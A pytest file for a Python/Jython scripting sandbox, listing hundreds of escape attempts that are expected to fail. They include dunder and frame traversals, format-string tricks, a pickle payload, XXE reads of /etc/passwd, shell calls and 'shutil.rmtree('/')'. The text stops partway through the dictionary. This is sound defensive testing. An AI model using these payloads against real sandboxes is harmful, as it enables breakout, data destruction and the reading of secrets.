"""Escape attempts: each tries to reach the host (a shell, a file, the real builtins) and, if it
got there, to create a marker file. Every one must fail with an error and leave no marker."""
from __future__ import annotations

import builtins

import pytest

from runtime.scripts.sandbox import compile_script, new_globals

ATTEMPTS = {
    # imports
    "import_os": "import os\nos.system('touch {m}')",
    "import_sys_modules": "import sys\nsys.modules['os'].system('touch {m}')",
    "import_subprocess": "import subprocess\nsubprocess.call(['touch', '{m}'])",
    "import_ctypes": "import ctypes",
    "import_importlib": "import importlib\nimportlib.import_module('os').system('touch {m}')",
    "import_builtins": "import builtins\nbuiltins.open('{m}', 'w')",
    "import_py2_builtin": "import __builtin__\n__builtin__.open('{m}', 'w')",
    "dunder_import_name": "__import__('os').system('touch {m}')",
    "import_operator_attrgetter": "import operator\noperator.attrgetter('__globals__')(len)",
    "import_inspect": "import inspect\ninspect.currentframe().f_back.f_globals",
    # through the emulated standard library (runtime/emulated/stdlib)
    "os_system": "import os\nos.system('touch {m}')",
    "os_popen": "import os\nos.popen('touch {m}')",
    "os_environ": "import os\nos.environ['PATH']",
    "os_remove_via_path": "import os\nos.path.os.system('touch {m}')",
    "os_path_sys": "import os.path\nos.path.sys.modules",
    "os_listdir_outside": "import os\nos.listdir('/')",
    "os_walk_outside": "import os\nlist(os.walk('/etc'))",
    "os_path_getsize_outside": "import os\nos.path.getsize('/etc/passwd')",
    "os_path_dotdot": "import os\nos.listdir('../..')",
    "sys_modules": "import sys\nsys.modules",
    "sys_getframe": "import sys\nsys._getframe(0).f_globals",
    "sys_exit": "import sys\nsys.exit(0)",
    "sys_stdin": "import sys\nsys.stdin.readline()",
    "sys_path_append": "import sys\nsys.path.append('/tmp')",
    "sys_setrecursionlimit": "import sys\nsys.setrecursionlimit(10**6)",
    "sys_stdout_class_write": "import sys\ntype(sys.stdout).write = lambda s, t: None",
    "sys_exc_info_tb_frame": "import sys\ntry:\n    1/0\nexcept:\n    sys.exc_info()[2].tb_frame.f_globals",
    "sys_exc_info_tb_getattr": "import sys\ntry:\n    1/0\nexcept:\n    getattr(getattr(sys.exc_info()[2], 'tb_frame'), 'f_builtins')",
    # frames are facades (issue #17): names and lines only, never the frame behind them
    "sys_getframe_private_frame": "import sys\nsys._getframe()._frame.f_globals",
    "sys_getframe_object_getattribute": "import sys\nobject.__getattribute__(sys._getframe(), '_frame').f_globals",
    "sys_getframe_slot_descriptor": "import sys\nf = sys._getframe()\ntype(f)._frame.__get__(f).f_globals",
    "sys_getframe_code_consts": "import sys\nsys._getframe().f_code.co_consts",
    "sys_getframe_back_locals": "import sys\ndef f():\n    return sys._getframe(1).f_locals\nf()",
    "sys_getframe_code_object": "import sys\nexec sys._getframe().f_code",
    "from_sys_import_private": "from sys import _getframe, modules",
    "inspect_stack_frame_globals": "import inspect\ninspect.stack()[0][0].f_globals",
    "inspect_currentframe_builtins": "import inspect\ninspect.currentframe().f_builtins['open']('{m}', 'w')",
    "inspect_getframeinfo_host": "import inspect\ninspect.getframeinfo(len)",
    "traceback_extract_stack_object": "import traceback\nclass F(object):\n    f_code = None\ntraceback.extract_stack(F())",
    "tb_frame_format_traversal": "import sys\ntry:\n    1/0\nexcept:\n    '{{0.tb_frame.f_globals}}'.format(sys.exc_info()[2])",
    # globals() defines globals (issue #17), never the sandbox's own names
    "globals_write_builtins": "globals()['__builtins__'] = {{'_getattr_': getattr}}\ndef f(): return len.__self__\nf().open('{m}', 'w')",
    "globals_write_getattr_helper": "globals()['_getattr_'] = getattr\nlen.__self__.open('{m}', 'w')",
    "globals_write_shim_mark": "globals()['__shim_library__'] = None",
    "globals_delete_write_helper": "del globals()['_write_']",
    "globals_write_non_string_key": "globals()[1] = 2",
    "module_dict_write": "import json\nvars(json)['loads'] = None",
    "traceback_extract_frame": "import traceback\ntraceback.extract_stack(object())",
    "traceback_walk": "import traceback\ntraceback.walk_stack(None)",
    "types_function_type": "import types\ntypes.FunctionType(None, {{}})",
    "types_class_type": "import types\ntypes.ClassType('C', (), {{'__reduce__': 1}})",
    "types_type_type": "import types\ntypes.TypeType('C', (object,), {{'__getattribute__': 1}})",
    "logging_handler_file": "import logging\nlogging.FileHandler('{m}')",
    "logging_root_manager": "import logging\nlogging.root.manager",
    "urllib_urlopen": "import urllib\nurllib.urlopen('http://127.0.0.1:9/')",
    "urllib2_urlopen": "import urllib2\nurllib2.urlopen('http://127.0.0.1:9/')",
    "httplib_connection": "import httplib\nhttplib.HTTPConnection('127.0.0.1', 9)",
    "urllib_request_module": "import urllib\nurllib.request",
    "xml_external_entity": "import xml.dom.minidom\nxml.dom.minidom.parseString("
                           "'<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>')",
    "etree_external_entity": "import xml.etree.ElementTree as ET\nET.fromstring("
                             "'<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><a>&e;</a>')",
    "etree_parse_outside": "import xml.etree.ElementTree as ET\nET.parse('/etc/hosts')",
    "minidom_parse_outside": "import xml.dom.minidom\nxml.dom.minidom.parse('/etc/hosts')",
    "xml_sax": "import xml.sax\nxml.sax.make_parser()",
    # issue #18: the Python 2 modules opened in this round
    "contextlib_generator_frame": "import contextlib\n@contextlib.contextmanager\ndef c():\n    yield 1\nc().gen.gi_frame.f_globals",
    "contextlib_getattr_frame": "import contextlib\n@contextlib.contextmanager\ndef c():\n    yield 1\n"
                                "getattr(getattr(c(), 'gen'), 'gi_' + 'frame').f_builtins['open']('{m}', 'w')",
    "contextlib_func_globals": "import contextlib\n@contextlib.contextmanager\ndef c():\n    yield 1\nc().func.__globals__",
    "contextlib_helper_class_globals": "import contextlib\ntype(contextlib.closing(None)).__enter__.__globals__['sys']",
    "contextlib_redirect_stdout": "from contextlib import redirect_stdout",
    "contextlib_exitstack_callback": "import contextlib\ncontextlib.ExitStack().callback(open, '{m}', 'w')",
    "contextlib_module_of_function": "import contextlib\ncontextlib.contextmanager.__module__\nimport sys\nsys.modules['contextlib']",
    "abc_metaclass_called_directly": "import abc\nabc.ABCMeta('X', (object,), {{'__shim_script__': True}})",
    "abc_metaclass_type_call": "import abc\ntype.__call__(abc.ABCMeta, 'X', (object,), {{}})",
    "abc_metaclass_proxy_base": "import abc, math\nclass X(type(math)):\n    __metaclass__ = abc.ABCMeta",
    "abc_metaclass_new_globals": "import abc\nabc.ABCMeta.__new__.__globals__['_abc']",
    "abc_impl_internals": "import abc\nclass A(object):\n    __metaclass__ = abc.ABCMeta\ntype(A._abc_impl).__reduce__",
    "abc_metaclass_write": "import abc\nsetattr(abc.ABCMeta, '__call__', lambda *a: open('{m}', 'w'))",
    "abc_other_metaclass_ignored": "class M(type):\n    def __new__(m, *a):\n        open('{m}', 'w')\n"
                                   "class A(object):\n    __metaclass__ = M\nassert type(A) is not M\nraise ValueError('ignored, as before')",
    "hmac_inner_hash": "import hmac\nhmac.new('k')._h",
    "hmac_class_write": "import hmac\nhmac.HMAC.update = len",
    "md5_function_globals": "import md5\nmd5.new.__globals__['_hashlib']",
    "sha_getattr_globals": "import sha\ngetattr(sha.new, '__glob' + 'als__')",
    "io_open_host_file": "import io\nio.open('{m}', 'w')",
    "io_fileio": "import io\nio.FileIO('{m}', 'w')",
    "io_class_write": "import io\nio.BytesIO.write = len",
    "io_bytesio_base_class": "import io\nio.BytesIO.__bases__[0].__subclasses__()",
    "sets_class_write": "import sets\nsets.Set.add = len",
    "userdict_method_globals": "import UserDict\nUserDict.UserDict.keys.__globals__",
    "userdict_class_write": "import UserDict\nUserDict.DictMixin.get = len",
    "unicodedata_database_object": "import unicodedata\nunicodedata.ucd_3_2_0",
    "saxutils_real_module": "import xml.sax.saxutils as s\ns._saxutils",
    "saxutils_xml_generator_stdout": "from xml.sax.saxutils import XMLGenerator",
    "keyword_list_shared": "import keyword\nkeyword.kwlist.append('x')",
    "htmlentitydefs_shared": "import htmlentitydefs\nhtmlentitydefs.name2codepoint['amp'] = 0",
    "time_clock_globals": "import time\ntime.clock.__globals__",
    "inspect_getmembers": "import inspect\ninspect.getmembers(len)",
    "inspect_getsource": "import inspect\ninspect.getsource(len)",
    "stringio_class_write": "import StringIO\nStringIO.StringIO.write = lambda s, t: None",
    "queue_mutex_module": "import Queue\nQueue.threading",
    "uuid_getnode": "import uuid\nuuid.getnode()",
    "uuid_module_os": "import uuid\nuuid.os",
    "jarray_items": "import jarray\na = jarray.array([1], 'i')\na._items.append(open)",
    "array_module_sys": "import array\narray.array.__module__\narray.sys",
    "weakref_finalize": "import weakref\nweakref.finalize",
    "csv_register_dialect": "import csv\ncsv.register_dialect",
    "pprint_stream_sys": "import pprint\npprint._sys",
    "shutil_refused": "import shutil\nshutil.rmtree('/')",
    "posixpath_os": "import posixpath\nposixpath.os",
    "import_codecs": "import codecs\ncodecs.open('{m}', 'w')",
    "import_pickle": "import pickle\npickle.loads(b'cos\\nsystem\\n(Vtouch {m}\\ntR.')",
    "relative_import": "from . import os",
    "import_io": "import io\nio.open('{m}', 'w')",
    # java.math (emulated): its parts are private, its powers size-checked
    "java_math_private": "from java.math import BigDecimal\nBigDecimal('1')._u.__class__.__subclasses__()",
    "java_math_pow": "from java.math import BigInteger\nBigInteger('10').pow(10 ** 9)",
    "java_math_init": "from java.math import BigDecimal\nBigDecimal.__init__(BigDecimal.ONE, '5')",
    # import paths walk through the guard (issue "Sandbox, round 2"): only modules are walked
    "import_path_globals": "import system.util.getLogger.__globals__ as g\ng['__builtins__']['__import__']('os').system('touch {m}')",
    "from_path_globals": "from system.file.readFileAsString.__globals__ import get\nget('__builtins__')['open']('{m}', 'w')",
    "import_java_path_globals": "import java.lang.System.getProperty.__globals__ as g\ng['sys'].modules['os'].system('touch {m}')",
    "import_path_builtins": "import system.util.jsonEncode.__builtins__ as b\nb['open']('{m}', 'w')",
    "import_proxy_getattr": "import system.util.__getattr__ as g\ng('__class__')",
    # system functions are wrappers that make their results unicode: the wrapped host function
    # and the wrapper's closure stay out of reach
    "system_wrapped": "getattr(system.util.getProjectName, '__wrapped__').__globals__['os']",
    "system_wrapper_closure": "getattr(system.util.jsonDecode, '__closure__')[0].cell_contents.__globals__",
    "system_wrapper_globals": "system.util.jsonDecode.func_globals['jython_value']",
    "bytes_helper": "_bstr_(system, '__class__')",
    "import_path_class": "import system.util.__class__ as c\nc.__init__",
    "from_function_import": "from system.util.getLogger import func_globals\nfunc_globals['__builtins__']",
    "import_path_self": "import math.floor.__self__ as m\nm",
    "import_library_dict": "import system.util.__dict__ as d\nd",
    # leaks through allowed modules
    "datetime_sys": "import datetime\ndatetime.sys.modules['os'].system('touch {m}')",
    "re_enum_builtins": "import re\nre.enum.bltns.open('{m}', 'w')",
    "json_codecs": "import json\njson.codecs.open('{m}', 'w')",
    "from_json_import_codecs": "from json import codecs\ncodecs.open('{m}', 'w')",
    "re_copyreg": "import re\nre.copyreg",
    "random_os": "import random\nrandom._os.system('touch {m}')",
    "collections_abc_sys": "import collections\ncollections.abc.sys",
    "string_formatter": "import string\nstring.Formatter().get_field('0.__globals__', [len], {{}})",
    "functools_getattr_chain": "import functools\nfunctools.reduce(getattr, ['__class__', '__subclasses__'], 1)",
    "time_module_dict": "import time\ntime.__dict__",
    "module_proxy_type_dict": "import math\ntype(math).__dict__",
    # dunder chains
    "subclasses_walk": "().__class__.__bases__[0].__subclasses__()",
    "mro_walk": "x = ().__class__.mro()[-1]\nx.__subclasses__()",
    "function_globals": "def f(): pass\nf.__globals__['__builtins__']['open']('{m}', 'w')",
    "func_globals_py2": "def f(): pass\nf.func_globals",
    "builtin_self": "len.__self__.open('{m}', 'w')",
    "getattr_dunder": "getattr(len, '__self__').open('{m}', 'w')",
    "getattr_globals": "def f(): pass\ngetattr(f, '__globals__')",
    "lambda_code": "(lambda: 0).__code__",
    "class_dict_of_host": "type(system).__dict__",
    "init_globals_of_host": "system.util.sendMessage.__globals__",
    "bound_method_self": "x = [].append\nx.__self__",
    # frames
    "generator_gi_frame": "def g():\n    yield 1\nx = g()\nx.gi_frame.f_back.f_globals",
    "generator_getattr_frame": "def g():\n    yield 1\ngetattr(g(), 'gi_frame').f_builtins['open']('{m}', 'w')",
    "genexpr_frame": "x = (i for i in [1])\nnext(x)\nx.gi_frame.f_back",
    "coroutine_cr_frame": "async def c():\n    pass\nc().cr_frame",
    "async_generator_ag_frame": "async def a():\n    yield 1\na().ag_frame",
    "traceback_frame": "try:\n    1/0\nexcept Exception as e:\n    e.__traceback__.tb_frame.f_globals",
    "traceback_getattr": "try:\n    1/0\nexcept Exception as e:\n    getattr(getattr(e, '__traceback__'), 'tb_frame')",
    # str.format traversal
    "format_globals": "'{{0.__globals__}}'.format(lambda: 0)",
    "format_subclasses": "'{{0.__class__.__base__.__subclasses__}}'.format(1)",
    "format_map_traversal": "'{{x.__init__.__globals__}}'.format_map({{'x': len}})",
    "format_gi_frame": "def g():\n    yield 1\n'{{0.gi_frame.f_globals}}'.format(g())",
    "fstring_dunder": "x = 1\nf'{{x.__class__.__bases__}}'",
    # builtins tricks
    "open_builtin": "open('{m}', 'w')",
    "exec_builtin": "exec(\"import os; os.system('touch {m}')\")",
    "eval_builtin": "eval(\"__import__('os').popen('touch {m}')\")",
    "compile_builtin": "c = compile(\"__import__('os').system('touch {m}')\", 'x', 'exec')\nexec c",
    "compile_ast_flag": "compile('1', 'x', 'eval', 1024).body",
    "compile_code_object_globals": "c = compile('1', 'x', 'eval')\nc._code.co_consts",
    "exec_crafted_globals": "g = {{'_getattr_': getattr, '__builtins__': {{'open': 1}}}}\nexec \"len.__self__.open('{m}', 'w')\" in g",
    "exec_crafted_write_helper": "g = {{'_write_': lambda o: o}}\nexec \"import json\\njson.JSONDecoder.decode = 1\" in g",
    "eval_crafted_locals": "eval(\"len.__self__\", {{}}, {{'_getattr_': getattr}})",
    "globals_view_builtins": "g = globals()\ng['_getattr_'] = getattr\nlen.__self__.open('{m}', 'w')",
    "globals_view_dict_escape": "dict.__getitem__(globals(), '__builtins__')",
    "star_import_private": "from math import *\n_shim_internal",
    "dunder_name_builtins": "__builtins__ = {{'_getattr_': getattr}}\ndef f(): return len.__self__\nf()",
    "module_metaclass_global": "__metaclass__ = type\nclass C: pass\nimport json\nC.__bases__[0].__subclasses__()",
    "globals_builtin": "globals()['__builtins__']",
    "vars_builtin": "vars(system)",
    "builtins_name": "__builtins__['open']('{m}', 'w')",
    "reserved_getattr_name": "_getattr_ = lambda o, n: 1",
    "type_three_args_globals": "T = type('T', (), {{'__getattribute__': lambda s, n: object.__getattribute__(s, n)}})\n"
                               "T().__class__.__subclasses__",
    "metaclass_keyword": "class M(type): pass\nclass C(metaclass=M): pass",
    "class_defines_getattribute": "class C(object):\n    def __getattribute__(self, n):\n        return object.__getattribute__(self, n)\n"
                                  "object.__getattribute__(len, '__self__').open('{m}', 'w')",
    "getattribute_subclasses": "object.__getattribute__(object, '__subclasses__')()",
    "object_new_host_class": "import json\nobject.__new__(json.JSONDecoder)",
    "object_setattr_host": "import json\nobject.__setattr__(json.JSONDecoder, 'decode', 1)",
    "super_setattr_host": "class C(object):\n    def f(self, o):\n        super(C, self).__setattr__.__self__\nC().f(1)",
    "mro_subclasses": "class C(object): pass\nC.__mro__[-1].__subclasses__()",
    "func_defaults_host": "system.util.sendMessage.__defaults__",
    "bound_next_self": "it = iter([1])\nit.__next__.__self__",
    "subclass_system_facade": "class Evil(type(system.util)): pass",
    "write_system_attribute": "system.util.sendMessage = None",
    "write_module_proxy": "import math\nmath.floor = None",
    "delete_module_proxy_attr": "import math\ndel math.pi",
    "setattr_dunder": "class C(object): pass\nsetattr(C, '__getattribute__', lambda s, n: 1)",
    "private_attr_of_proxy": "import math\ngetattr(type(math), '_shim_internal')",
    "private_attr_of_format": "'{{}}'.format._text",
    "super_self_class": "class A(object):\n    def f(self):\n        return super(A, self).__init__.__globals__\nA().f()",
    "decorator_leak": "def d(f):\n    return f.__globals__\n@d\ndef g(): pass",
    "sys_exc_info_frame": "import sys\nsys.exc_info()[2].tb_frame",
    "breakpoint_builtin": "breakpoint()",
    "java_io_file": "from java.io import File\nFile('{m}').createNewFile()",
    "system_internal_module": "system.util.current",
    "library_builtins": "import system\nsystem.__builtins__",
    "dict_of_host_instance": "system.util.__dict__",
    "os_via_library_root": "import project\nproject.__dict__",
    # the host objects scripts are handed: java.* emulation and system.* results
    "java_runtime_exec": "from java.lang import Runtime\nRuntime.getRuntime().exec('touch {m}')",
    "java_class_forname": "from java.lang import Class\nClass.forName('java.lang.Runtime')",
    "java_system_getenv": "from java.lang import System\nSystem.getenv('PATH')",
    "java_system_exit": "from java.lang import System\nSystem.exit(0)",
    "java_thread_forged_self": "from java.lang import Thread, System\nThread.setName(System.out, 'x')",
    "java_thread_forged_init": "from java.lang import Thread\nimport java.lang\nThread.__init__(java.lang.Math)",
    "threading_thread_forged_self": "import threading\nimport system\nthreading.Thread.setName(system.util, 'x')",
    "threading_host_threads": "import threading\nthreading.enumerate()",
    "java_class_dict": "from java.lang import Integer\nInteger.__dict__",
    "java_package_globals": "import java.lang\ngetattr(java.lang, '__dict__')",
    "java_unlisted_member": "from java.util import ServiceLoader",
    "java_not_emulated_package": "import javax.swing.table",
    "java_exception_traceback": "from java.lang import RuntimeException\ntry:\n    raise RuntimeException('x')\nexcept RuntimeException, e:\n    getattr(e, '__traceback__')",
    "java_string_subclasses": "from java.lang import String\ngetattr(type(String.valueOf(1)), '__subclasses__')()",
    "java_string_method_globals": "from java.lang import String\nString('x').toUpperCase.__wrapped__.__globals__",
    "java_string_wrapper_closure": "from java.lang import String\ngetattr(String('x').trim, 'func_closure')",
    "java_string_private_text": "from java.lang import String\ns = String('x')\nobject.__setattr__(s, '_text', 1)",
    "java_treemap_order_closure": "from java.util import TreeMap\nTreeMap({{'a': 1}}).descendingMap().comparator().compare.__closure__",
    "java_character_module": "from java.lang import Character\nCharacter.isDigit.__globals__['unicodedata']",
    "java_private_state": "from java.util import ArrayList\nl = ArrayList()\ngetattr(l, '_' + 'items')",
    "java_hashtable_buckets": "from java.util import Hashtable\nh = Hashtable()\ngetattr(h, '_buck' + 'ets').table",
    "java_enumeration_class": "from java.util import Vector\nE = type(Vector([1]).elements())\nE(['x']).__init__.__globals__",
    "java_stack_base_globals": "from java.util import Stack\nStack.__mro__[2].__init__.__globals__['_jv']",
    "java_regex_compiled": "from java.util.regex import Pattern\ngetattr(Pattern.compile('a'), '_comp' + 'iled')",
    "java_regex_match_globals": "from java.util.regex import Pattern\nm = Pattern.compile('a').matcher('a')\nm.find.__func__.__globals__",
    "java_base64_shared_encoder_state": "from java.util import Base64\nsetattr(Base64.getEncoder(), '_p' + 'ad', False)",
    "java_base64_class_attr": "from java.util import Base64\nBase64.getEncoder = lambda: None",
    "java_base64_decoder_table": "from java.util import Base64\ngetattr(Base64.getDecoder(), '_tab' + 'le')",
    "java_base64_method_globals": "from java.util import Base64\nBase64.getEncoder().encodeToString.__func__.__globals__",
    "java_base64_encoder_forged": "from java.util import Base64\nimport system\nBase64.Encoder.withoutPadding(system.util)",
    "java_base64_encoder_new": "from java.util import Base64\nE = type(Base64.getEncoder())\nE(True, 1, '', 1)",
    "java_digest_hash_state": "from java.security import MessageDigest\nm = MessageDigest.getInstance('MD5')\ngetattr(m, '_st' + 'ate').update",
    "java_digest_object_new": "from java.security import MessageDigest\nobject.__new__(MessageDigest)",
    "java_digest_constructor": "from java.security import MessageDigest\nMessageDigest('MD5')",
    "java_mac_constructor": "from javax.crypto import Mac\nMac()",
    "java_base64_encoder_made": "from java.util import Base64\nBase64.Encoder._made(True, 1, '', 1)",
    "java_digest_forged_self": "from java.security import MessageDigest\nimport system\nMessageDigest.reset(system.util)",
    "java_digest_subclass_init": "from java.security import MessageDigest\nclass M(MessageDigest):\n    pass\nM.getInstance.__globals__",
    "java_mac_key_bytes": "from javax.crypto import Mac\nfrom javax.crypto.spec import SecretKeySpec\nk = SecretKeySpec('k', 'HmacSHA1')\nvars(k)",
    "java_mac_hmac_object": "from javax.crypto import Mac\nfrom javax.crypto.spec import SecretKeySpec\nm = Mac.getInstance('HmacSHA1')\nm.init(SecretKeySpec('k', 'HmacSHA1'))\ngetattr(m, '_sta' + 'te').__class__",
    "jarray_tostring_globals": "import jarray\njarray.array([1], 'b').tostring.__func__.__globals__",
    "java_biginteger_bytes_globals": "from java.math import BigInteger\nBigInteger.__init__.__globals__",
    "java_properties_defaults": "from java.util import Properties\ngetattr(Properties(), '_def' + 'aults')",
    "java_properties_load_host_reader": "from java.util import Properties\nclass R(object):\n    def read(self):\n        return -1\nProperties().load(R()).__class__.__init__.__globals__",
    "java_properties_forged_self": "from java.util import Properties\nimport system\nProperties.setProperty(system.util, 'a', 'b')",
    "java_properties_store_to_script": "from java.util import Properties\nclass W(object):\n    def write(self, t):\n        self.t = t\nw = W()\nProperties().store(w, None)\nw.t.__class__.__subclasses__()",
    "java_tokenizer_text": "from java.util import StringTokenizer\ngetattr(StringTokenizer('a b'), '_te' + 'xt')",
    "java_tokenizer_iter_frame": "from java.util import StringTokenizer\niter(StringTokenizer('a b')).gi_frame",
    "java_objects_compare_globals": "from java.util import Objects\nObjects.compare.__globals__",
    "java_objects_requirenonnull_code": "from java.util import Objects\nObjects.requireNonNull.__code__",
    "java_charset_shared_name": "from java.nio.charset import StandardCharsets\nsetattr(StandardCharsets.UTF_8, '_na' + 'me', 'x')",
    "java_charset_class_attr": "from java.nio.charset import StandardCharsets\nStandardCharsets.UTF_8 = None",
    "java_charset_codec": "from java.nio.charset import Charset\ngetattr(Charset.forName('utf8'), '_co' + 'dec')",
    "java_charset_forname_globals": "from java.nio.charset import Charset\nCharset.forName.__globals__",
    "java_charset_object_new": "from java.nio.charset import Charset\nobject.__new__(Charset)",
    "java_charset_constructor": "from java.nio.charset import Charset\nCharset('UTF-8', None)",
    "java_charset_forged_self": "from java.nio.charset import Charset\nimport system\nCharset.aliases(system.util)",
    "java_charset_subclass": "from java.nio.charset import Charset\nclass C(Charset):\n    pass\nC.__mro__[-1].__subclasses__()",
    "java_charset_reduce": "from java.nio.charset import StandardCharsets\nStandardCharsets.UTF_8.__reduce_ex__(2)",
    "java_charset_made_cache": "from java.nio import charset\ngetattr(charset, '_MA' + 'DE')",
    "java_charset_module_codecs": "import java.nio.charset\njava.nio.charset.codecs.lookup",
    # java.io byte streams (issue #18): their buffers, wrapped streams and encoders stay private,
    # a PrintStream/FileOutputStream path is the files folder's, a subclass gets no host hooks
    "java_baos_private_buffer": "from java.io import ByteArrayOutputStream\ngetattr(ByteArrayOutputStream(), '_b' + 'uf')",
    "java_bais_private_data": "from java.io import ByteArrayInputStream\nByteArrayInputStream('x')._data",
    "java_filter_wrapped_stream": "from java.io import BufferedInputStream, ByteArrayInputStream\n"
                                  "getattr(BufferedInputStream(ByteArrayInputStream('x')), '_' + 'in')",
    "java_stream_method_globals": "from java.io import ByteArrayOutputStream\nByteArrayOutputStream().write.__func__.__globals__",
    "java_stream_func_globals": "from java.io import DataOutputStream, ByteArrayOutputStream\n"
                                "getattr(DataOutputStream(ByteArrayOutputStream()).writeUTF, 'func_' + 'globals')",
    "java_writer_encoder_class": "from java.io import OutputStreamWriter, ByteArrayOutputStream\n"
                                 "type(getattr(OutputStreamWriter(ByteArrayOutputStream()), '_enc' + 'oder'))",
    "java_printstream_host_path": "from java.io import PrintStream\nPrintStream('{m}').println('x')",
    "java_fileoutputstream_host_path": "from java.io import FileOutputStream, BufferedOutputStream\n"
                                       "BufferedOutputStream(FileOutputStream('{m}')).write('x')",
    "java_stream_subclass_put": "from java.io import ByteArrayOutputStream\nclass S(ByteArrayOutputStream):\n"
                                "    def write(self, b):\n        return super(S, self).write.__func__.__globals__\nS().write(1)",
    "java_stream_mro_base_globals": "from java.io import BufferedOutputStream\n"
                                    "BufferedOutputStream.__mro__[1].__init__.__globals__['output_stream']",
    "java_stream_class_write": "from java.io import ByteArrayOutputStream\nByteArrayOutputStream.toByteArray = len",
    "java_stream_copy_reduce": "from java.io import ByteArrayOutputStream\nByteArrayOutputStream().__reduce_ex__(2)",
    "java_stream_object_new": "from java.io import DataInputStream\nobject.__new__(DataInputStream)._exactly(1)",
    "java_vector_unbound_forged": "from java.util import Vector\nimport system\nVector.addElement(system.util, 1)",
    "java_io_writer": "from java.io import FileWriter\nFileWriter('{m}').write('x')",
    "system_function_code": "system.util.getLogger.__code__",
    "system_function_closure": "getattr(system.util.sendMessage, '__closure__')",
    "logger_internals": "l = system.util.getLogger('x')\ngetattr(l, '_name').__class__.__subclasses__",
    "dataset_internals": "ds = system.dataset.toDataSet(['a'], [[1]])\ngetattr(ds, '_rows')",
    "dataset_class_globals": "ds = system.dataset.toDataSet(['a'], [[1]])\ntype(ds).__init__.__globals__",
    "request_internals": "r = system.util.sendRequestAsync('X', 'h')\ngetattr(r, '_dispatch')",
    "system_namespace_module": "system.util.__builtins__",
    "system_unemulated": "system.twilio.sendSms('acct', 'from', 'to', 'body')",
    # more language tricks
    "format_nested_spec": "'{{0:{{1.__class__.__base__.__subclasses__}}}}'.format(1, 2)",
    "functools_partial_getattr": "import functools\nfunctools.partial(getattr, len, '__self__')()",
    "functools_wraps_wrapped": "import functools\n@functools.wraps(len)\ndef f(): pass\nf.__wrapped__",
    "exception_context": "try:\n    1/0\nexcept Exception as e:\n    e.__context__",
    "with_traceback_frame": "try:\n    1/0\nexcept Exception as e:\n    getattr(e.with_traceback(None), '__traceback__').tb_frame",
    "reduce_definition": "class A(object):\n    def __reduce__(self):\n        return (open, ('{m}', 'w'))\nimport copy\ncopy.copy(A())",
    "super_thisclass": "class A(object): pass\nsuper(A, A()).__thisclass__",
    "json_decoder_module": "import json\njson.decoder.scanstring",
    "re_sre_compile": "import re\nre.sre_compile",
    "datetime_capi": "import datetime\ndatetime.datetime_CAPI",
    "random_class_globals": "import random\nrandom.Random.__init__.__globals__",
    "namedtuple_field_injection": "import collections\ncollections.namedtuple('T', ['a', '__import__(\"os\")'])",
    "eval_alias": "e = eval\ne(\"__import__('os').system('touch {m}')\")",
    "exec_statement": "exec \"import os; os.system('touch {m}')\"",
    # found by review: attribute access through functools, unbound str.format, metaclasses
    "functools_wraps_updated_globals": "import functools\ndef w(): pass\n"
                                       "functools.wraps(system.file.readFileAsString, assigned=(), updated=('__globals__',))(w)\n"
                                       "os.system('touch {m}')",
    "functools_wraps_assigned": "import functools\ndef w(): pass\n"
                                "functools.wraps(len, assigned=('__self__',))(w)\nw.__self__.open('{m}', 'w')",
    "functools_total_ordering_host": "import functools\nfunctools.total_ordering(type(system.util))",
    "unbound_str_format": "str.format('{{0.__globals__[os]}}', system.file.readFileAsString).system('touch {m}')",
    "unbound_str_format_getattr": "getattr(str, 'format')('{{0.__init__.__globals__}}', len)",
    "unbound_unicode_format_map": "unicode.format_map(u'{{x.__globals__}}', {{'x': len}})",
    "class_of_str_format": "''.__class__.format('{{0.__globals__}}', len)",
    "object_class_is_type": "T = object.__class__\nT('C', (object,), {{'__getattribute__': lambda s, n: 1}})",
    "type_of_class_is_type": "T = type(object)\nC = T('C', (object,), {{'__reduce_ex__': lambda s, p: (open, ('{m}', 'w'))}})\n"
                             "import copy\ncopy.deepcopy(C())",
    # found by the second review: str subclasses as names, writes to shared host objects
    "str_subclass_name_getattr": "class S(str):\n    def startswith(self, *a):\n        return False\n"
                                 "b = getattr(len, S('__self__'))\ngetattr(b, S('__import__'))('os').system('touch {m}')",
    "str_subclass_name_setattr": "class S(str):\n    def startswith(self, *a):\n        return False\n"
                                 "class C(object): pass\nsetattr(C, S('__getattribute__'), lambda s, n: 1)",
    "str_subclass_name_hasattr": "class S(str):\n    def startswith(self, *a):\n        return False\n"
                                 "assert not hasattr(len, S('__self__'))\nraise ValueError('refused as expected')",
    "write_module_proxy_class": "import math\ndef fl(self, x): return 'PWNED'\ntype(math).floor = fl",
    "write_system_proxy_class": "def gg(self): return {{}}\ntype(system.util).getGlobals = gg",
    # system.util.globals is a property of the proxy class: neither the property, its getter nor
    # the class may be reached, replaced or deleted
    "util_globals_property": "p = type(system.util).__dict__['globals']\nescaped = p.fget.__globals__",
    "util_globals_getattr_fget": "escaped = getattr(getattr(type(system.util), 'globals'), 'fget').__globals__",
    "util_globals_rebind": "system.util.globals = {{}}\nescaped = 1",
    "util_globals_delete": "del system.util.globals\nescaped = 1",
    "util_globals_vars": "escaped = vars(system.util)['globals']",
    "write_json_decoder_class": "import json\njson.JSONDecoder.decode = lambda self, s: {{'forged': True}}",
    "write_random_class": "import random\nrandom.Random.random = lambda self: 4",
    "delete_template_method": "import string\ndel string.Template.safe_substitute",
    "write_java_class": "from java.util import HashMap\nHashMap.put = lambda self, k, v: None",
    "write_dataset_class": "ds = system.dataset.toDataSet(['a'], [[1]])\ntype(ds).getRowCount = lambda self: 99",
    "write_unicode_class": "unicode.upper = lambda self: 'x'",
    "write_host_function": "system.util.getLogger.evil = 1",
    "setattr_host_class": "import json\nsetattr(json.JSONEncoder, 'encode', lambda self, o: 'x')",
    "wraps_renames_host_function": "import functools\ndef evil():\n    'doc'\nfunctools.wraps(evil)(system.util.getLogger)",
    "write_shared_java_instance": "from java.lang import System\nSystem.out.println = lambda *a: None",
    # issue #19: objects system.db/util/math hand out
    "sproc_call_internals": "c = system.db.createSProcCall('x')\nc._params",
    "sproc_call_state": "c = system.db.createSProcCall('x')\nc._state.outs",
    "sproc_call_class_write": "c = system.db.createSProcCall('x')\ntype(c).getReturnValue = lambda self: 1",
    "sproc_call_execute": "c = system.db.createSProcCall('x')\nc.execute",
    "version_internals": "v = system.util.getVersion()\nv._parts",
    "version_write": "v = system.util.getVersion()\nv.major = 99",
    "tag_export_outside_files": "system.tag.exportTags('{m}', ['[default]'])",
    "tag_import_host_file": "system.tag.importTags('/etc/passwd', '')",
